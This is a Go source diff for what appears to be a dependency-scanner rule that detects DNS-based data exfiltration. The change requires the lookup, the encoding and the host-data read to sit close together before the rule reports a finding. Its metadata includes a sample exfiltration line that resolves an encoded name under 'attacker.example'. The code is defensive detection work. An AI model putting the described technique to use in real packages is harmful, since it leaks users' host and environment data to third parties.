@@ -9,6 +9,7 @@ import (
 
 	"github.com/depfence/depfence/internal/analyze"
 	"github.com/depfence/depfence/internal/finding"
+	"github.com/depfence/depfence/internal/jsast"
 	"github.com/depfence/depfence/internal/rules/rulekit"
 )
 
@@ -171,9 +172,10 @@ type DNSExfil struct{}
 // Meta implements analyze.Rule.
 func (DNSExfil) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "net/dns-exfil", Version: 1, Title: "Smuggles data out in DNS lookups",
+		ID: "net/dns-exfil", Version: 2, Title: "Smuggles data out in DNS lookups",
 		Help: "The code encodes data (hex/base32/base64) and resolves host names built from it. DNS queries pass most firewalls, so dependency-confusion " +
-			"probes use them to report the victim's host name, user and directory to an attacker's name server.",
+			"probes use them to report the victim's host name, user and directory to an attacker's name server. The lookup, the encoding and the " +
+			"host data must sit together (within 2,000 bytes of code): a proxy's lookup and a hash elsewhere in a bundle are unrelated.",
 		Remediation:     "Remove the package; it reports your environment to a third party.",
 		Example:         "dns.resolve4(`${hex}.${id}.attacker.example`)",
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigExfil, Needs: analyze.NeedCode,
@@ -183,31 +185,35 @@ func (DNSExfil) Meta() analyze.Meta {
 // Check implements analyze.Rule.
 func (DNSExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
 	for _, f := range rulekit.Code(ctx, t) {
-		var dnsCall *int
-		encode := false
-		data := false
+		var dns []int
+		var encode, data []jsast.Pos
 		for i, c := range f.Facts.Calls {
 			root := rulekit.Root(c.Callee)
 			if (root == "dns" || root == "dns/promises") && strings.HasPrefix(rulekit.Last(c.Callee), "resolve") || c.Callee == "dns.lookup" {
-				if len(c.Args) > 0 && !c.Args[0].Known && dnsCall == nil {
-					dnsCall = &i
+				if len(c.Args) > 0 && !c.Args[0].Known {
+					dns = append(dns, i)
 				}
 			}
 			if rulekit.Last(c.Callee) == "toString" && len(c.Args) > 0 && c.Args[0].Known && (c.Args[0].Value == "hex" || c.Args[0].Value == "base64" || c.Args[0].Value == "base32") {
-				encode = true
+				encode = append(encode, c.Pos)
 			}
 			switch rulekit.Last(c.Callee) {
 			case "hostname", "userInfo", "homedir", "cwd", "networkInterfaces", "readFileSync", "readFile":
-				data = true
+				data = append(data, c.Pos)
 			}
 		}
-		if len(f.Facts.Env) > 0 {
-			data = true
+		for _, e := range f.Facts.Env {
+			data = append(data, e.Pos)
 		}
-		if dnsCall != nil && encode && data {
-			c := f.Facts.Calls[*dnsCall]
-			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: fmt.Sprintf("%s() resolves names built from encoded host data", c.Callee),
-				Evidence: rulekit.Ev(c.Snippet.String(), "", ""), Confidence: finding.ConfidenceHigh})
+		// The three steps sit together in exfiltration code; spread over a
+		// bundle (a proxy's dns.lookup, a hash's hex digest, an env read)
+		// they are unrelated.
+		for _, i := range dns {
+			if c := f.Facts.Calls[i]; rulekit.Near(c.Pos, encode) && rulekit.Near(c.Pos, data) {
+				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: fmt.Sprintf("%s() resolves names built from encoded host data", c.Callee),
+					Evidence: rulekit.Ev(c.Snippet.String(), "", ""), Confidence: finding.ConfidenceHigh})
+				break
+			}
 		}
 	}
 	return nil
